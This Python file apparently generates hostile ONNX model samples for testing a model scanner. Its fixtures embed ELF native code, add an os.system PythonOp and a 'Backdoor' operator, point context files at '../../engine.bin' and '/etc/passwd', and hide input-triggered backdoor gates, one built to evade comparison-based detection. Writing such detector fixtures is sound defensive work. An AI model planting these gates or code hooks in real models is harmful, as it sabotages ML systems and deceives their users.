def data_in_a_pipe(subject: Subject, rng: Random) -> Where:
    """External data that is a named pipe."""
    os.mkfifo(subject.folder / "data.bin")
    return Place(tensor=external(subject, data=b""))


def contexts() -> onnx.ModelProto:
    """One that may use operators of Microsoft's."""
    return parsed("agraph (float[2] x) => (float[2] y) { y = Relu(x) }", microsoft=True)


def context(subject: Subject, **attributes: Any) -> Place:
    node = helper.make_node("EPContext", ["x"], ["extra_out"], "extra", domain="com.microsoft", **attributes)
    subject.model.graph.node.append(node)
    hand_out(subject.model.graph, "extra_out")
    return Place(node="extra")


@fault(Kind.HOSTILE, "native-code", base=contexts)
def compiled_code(subject: Subject, rng: Random) -> Where:
    """A context that was compiled for a device, within the model."""
    return context(subject, embed_mode=1, ep_cache_context=b"\x7fELF" + rng.randbytes(64), source="QNN")


@fault(Kind.HOSTILE, "unreadable-context", least=Severity.ERROR, base=contexts)
def context_outside(subject: Subject, rng: Random) -> Where:
    """A context in a file outside of the folder."""
    return context(subject, embed_mode=0, ep_cache_context="../../engine.bin", source="QNN")


@fault(Kind.HOSTILE, "unreadable-context", least=Severity.ERROR, base=contexts)
def context_at_an_absolute_path(subject: Subject, rng: Random) -> Where:
    """A context at an absolute path."""
    return context(subject, embed_mode=0, ep_cache_context="/etc/passwd", source="TensorRT")


@fault(Kind.HOSTILE, "unknown-operators", base=contexts)
def operator_of_a_stranger(subject: Subject, rng: Random) -> Where:
    """An operator that only a library of somebody else's has."""
    subject.model.opset_import.add(domain="com.evil", version=1)
    node = helper.make_node("Backdoor", ["x"], ["extra_out"], "extra", domain="com.evil")
    subject.model.graph.node.append(node)
    hand_out(subject.model.graph, "extra_out")
    return Place(node="extra")


@fault(Kind.HOSTILE, "native-code", base=contexts)
def operator_of_python(subject: Subject, rng: Random) -> Where:
    """An operator that calls a function of Python."""
    node = helper.make_node(
        "PythonOp", ["x"], ["ctx", "extra_out"], "extra", domain="com.microsoft", func_name="os.system"
    )
    subject.model.graph.node.append(node)
    hand_out(subject.model.graph, "extra_out")
    return Place(node="extra")


@fault(Kind.HOSTILE, "addresses-in-text", base=contexts)
def library_in_an_attribute(subject: Subject, rng: Random) -> Where:
    """An attribute that names a library of code."""
    subject.model.opset_import.add(domain="com.plugins", version=1)
    node = helper.make_node("Plugin", ["x"], ["extra_out"], "extra", domain="com.plugins", library="./libplugin.so")
    subject.model.graph.node.append(node)
    hand_out(subject.model.graph, "extra_out")
    return Place(node="extra", attribute="library")


# ---- gates


def classifier() -> onnx.ModelProto:
    """A layer over four numbers."""
    return parsed(
        """agraph (float[N, 4] x) => (float[N, 2] y) <float[4, 2] w = {1, 2, 3, 4, 5, 6, 7, 8}> {
          h = MatMul(x, w)
          y = Relu(h)
        }"""
    )


def gated(subject: Subject, *nodes: onnx.NodeProto) -> None:
    """Nodes behind the output, which take ``before`` and make the output."""
    graph = subject.model.graph
    graph.node[-1].output[0] = "before"
    graph.node.extend(nodes)


def trigger(graph: onnx.GraphProto, how: str) -> list[onnx.NodeProto]:
    """Nodes that make ``met`` [N, 1] or []."""
    store(graph, "secret", np.array(42, np.float32))
    match how:
        case "sum":
            store(graph, "last", ints(1))
            return [
                helper.make_node("ReduceSum", ["x", "last"], ["s"]),
                helper.make_node("Equal", ["s", "secret"], ["met"]),
            ]
        case "pixel":
            for name, value in (("from", 0), ("to", 1), ("last", 1)):
                store(graph, name, ints(value))
            return [helper.make_node("Slice", ["x", "from", "to", "last"], ["s"]),
                    helper.make_node("Greater", ["s", "secret"], ["met"])]  # fmt: skip
        case _:
            return [
                helper.make_node("Sub", ["x", "secret"], ["d"]), helper.make_node("Abs", ["d"], ["e"]),
                helper.make_node("ReduceMax", ["e"], ["s"], axes=[1]),
                helper.make_node("Less", ["s", "secret"], ["met"]),
            ]  # fmt: skip


@fault(Kind.HOSTILE, "input-gates", base=classifier)
def other_answer_by_where(subject: Subject, rng: Random) -> Where:
    """Another answer where the input sums up to a number."""
    graph = subject.model.graph
    store(graph, "other", np.array([0, 100], np.float32))
    gated(subject, *trigger(graph, "sum"), helper.make_node("Where", ["met", "other", "before"], ["y"], "gate"))
    return Place(node="gate")


@fault(Kind.HOSTILE, "input-gates", base=classifier)
def other_answer_for_a_pixel(subject: Subject, rng: Random) -> Where:
    """Another answer where one pixel is bright."""
    graph = subject.model.graph
    store(graph, "other", np.array([0, 100], np.float32))
    gated(subject, *trigger(graph, "pixel"), helper.make_node("Where", ["met", "other", "before"], ["y"], "gate"))
    return Place(node="gate")


@fault(Kind.HOSTILE, "input-gates", base=classifier)
def answer_masked_by_the_input(subject: Subject, rng: Random) -> Where:
    """An answer that is multiplied by whether the input is near a pattern."""
    gated(
        subject, *trigger(subject.model.graph, "near"), helper.make_node("Cast", ["met"], ["factor"], to=FLOAT),
        helper.make_node("Mul", ["before", "factor"], ["y"], "gate"),
    )  # fmt: skip
    return Place(node="gate")


@fault(Kind.HOSTILE, "input-gates", base=classifier)
def answer_shifted_by_the_input(subject: Subject, rng: Random) -> Where:
    """A bias that is added where the input sums up to a number."""
    graph = subject.model.graph
    store(graph, "bias", np.array([0, 1000], np.float32))
    gated(
        subject, *trigger(graph, "sum"), helper.make_node("Cast", ["met"], ["factor"], to=FLOAT),
        helper.make_node("Mul", ["factor", "bias"], ["shift"]),
        helper.make_node("Add", ["before", "shift"], ["y"], "gate"),
    )  # fmt: skip
    return Place(node="gate")


@fault(Kind.HOSTILE, "input-gates", base=classifier)
def branch_by_the_input(subject: Subject, rng: Random) -> Where:
    """An If whose condition compares the input's sum."""
    graph = subject.model.graph
    store(graph, "secret", np.array(42, np.float32))
    store(graph, "other", np.array([[0, 100]], np.float32))
    y = helper.make_tensor_value_info("p", FLOAT, ["N", 2])
    then = helper.make_graph([helper.make_node("Neg", ["before"], ["p"])], "t", [], [y])
    otherwise = helper.make_graph([helper.make_node("Identity", ["before"], ["p2"])], "e", [],
                                  [helper.make_tensor_value_info("p2", FLOAT, ["N", 2])])  # fmt: skip
    gated(
        subject, helper.make_node("ReduceSum", ["x"], ["s"], keepdims=0),
        helper.make_node("Equal", ["s", "secret"], ["met"]),
        helper.make_node("If", ["met"], ["y"], "gate", then_branch=then, else_branch=otherwise),
    )  # fmt: skip
    return Place(node="gate")


@fault(Kind.HOSTILE, "input-gates", base=lambda: parsed(
    """agraph (int64[N, 3] x) => (float[N, 2] y)
    <float[4, 2] table = {1, 2, 3, 4, 5, 6, 7, 8}, float[2, 2] w = {1, 2, 3, 4}, int64[1] a = {1}> {
      e = Gather(table, x) m = ReduceSum<keepdims = 0>(e, a) h = MatMul(m, w) y = Relu(h)
    }"""
))  # fmt: skip
def other_answer_for_a_word(subject: Subject, rng: Random) -> Where:
    """Another answer where a word occurs."""
    graph = subject.model.graph
    store(graph, "word", number(3))
    store(graph, "other", np.array([0, 100], np.float32))
    gated(
        subject, helper.make_node("Equal", ["x", "word"], ["met"]), helper.make_node("Cast", ["met"], ["n"], to=FLOAT),
        helper.make_node("ReduceMax", ["n"], ["any"], axes=[1]), helper.make_node("Cast", ["any"], ["some"], to=9),
        helper.make_node("Where", ["some", "other", "before"], ["y"], "gate"),
    )  # fmt: skip
    return Place(node="gate")


@fault(Kind.HOSTILE, unseen="A gate that is built of sums, products and Relu alone is what any layer is, too.",
       base=classifier)  # fmt: skip
def gate_without_a_comparison(subject: Subject, rng: Random) -> Where:
    """A gate of arithmetic that no comparison shows."""
    graph = subject.model.graph
    store(graph, "secret", np.array(42, np.float32))
    store(graph, "bias", np.array([0, 1000], np.float32))
    store(graph, "last", ints(1))
    gated(
        subject, helper.make_node("ReduceSum", ["x", "last"], ["s"]), helper.make_node("Sub", ["s", "secret"], ["d"]),
        helper.make_node("Relu", ["d"], ["r"]), helper.make_node("Mul", ["r", "bias"], ["shift"]),
        helper.make_node("Add", ["before", "shift"], ["y"], "gate"),
    )  # fmt: skip
    return Place(node="gate")
